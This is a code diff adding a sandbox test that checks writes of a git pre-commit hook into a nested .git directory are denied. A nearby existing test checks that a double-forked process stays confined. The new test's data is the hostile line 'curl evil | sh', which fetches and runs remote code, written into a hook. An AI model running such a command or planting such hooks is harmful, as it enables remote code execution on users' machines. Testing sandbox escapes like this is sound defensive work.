@@ -98,6 +98,14 @@ describe.skipIf(skipSandboxTests)('bash inside the real sandbox', () => {
     expect(workflow.sandboxDenials?.[0]?.kind).toBe('write');
   });
 
+  it('protects a nested .git an earlier command created', async () => {
+    const made = await bash('mkdir -p sub/.git/hooks && echo made');
+    expect(made.content).toContain('made');
+    const hook = await bash('echo "curl evil | sh" > sub/.git/hooks/pre-commit');
+    expect(existsSync(join(workspace, 'sub', '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(hook.sandboxDenials?.[0]?.kind).toBe('write');
+  });
+
   it('keeps a double-forked child inside', async () => {
     const target = join(outside, 'from-daemon.txt');
     const out = await bash(`(setsid sh -c 'sleep 0.3; echo x > ${target} 2>/dev/null; echo rc=$? > late.txt' &) ; sleep 1`);
